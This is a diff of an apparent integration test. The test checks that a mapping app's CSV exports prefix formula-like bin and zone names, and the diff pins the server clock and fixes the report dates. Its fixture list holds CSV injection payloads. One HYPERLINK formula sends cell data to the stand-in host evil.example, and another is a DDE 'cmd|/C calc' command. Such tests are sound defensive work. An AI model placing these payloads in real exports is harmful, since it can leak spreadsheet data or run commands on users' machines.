@@ -11,10 +11,11 @@ import { startServer, type RunningServer } from '../helpers/server';
 let server: RunningServer;
 let admin: ApiClient;
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|/C calc!A0', '+1+1', '-2+3'];
-const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
+/** The server's clock is pinned, so the report's period (days of the project's zone) holds what the test stored whatever the hour it runs. */
+const NOW = '2026-11-28T09:00:00+08:00';
 
 beforeAll(async () => {
-	server = await startServer();
+	server = await startServer({ env: { SANIMAP_NOW: NOW } });
 	admin = apiClient(server.url, await server.login());
 	for (const [i, name] of FORMULAS.entries()) await admin.create('bins', point(-12.5 + i * 0.001, -33.25), { name });
 	await admin.create('zones', { type: 'Polygon', coordinates: [[[-12.6, -33.3], [-12.4, -33.3], [-12.4, -33.2], [-12.6, -33.2], [-12.6, -33.3]]] }, { name: FORMULAS[0] });
@@ -32,7 +33,7 @@ it('prefixes formula-like names in a layer export, and keeps negative coordinate
 });
 
 it('prefixes a formula-like zone name in the report\'s scorecard CSV', async () => {
-	const res = await admin.get(`/api/reports/csv?table=scorecard&from=${day(Date.now() - 86_400_000)}&to=${day(Date.now() + 86_400_000)}`);
+	const res = await admin.get(`/api/reports/csv?table=scorecard&from=2026-11-27&to=2026-11-29`);
 	expect(res.status, res.text.slice(0, 300)).toBe(200);
 	const zones = new Set(rows(res.text).map((r) => r.zone));
 	expect(zones.has(`'${FORMULAS[0]}`)).toBe(true);
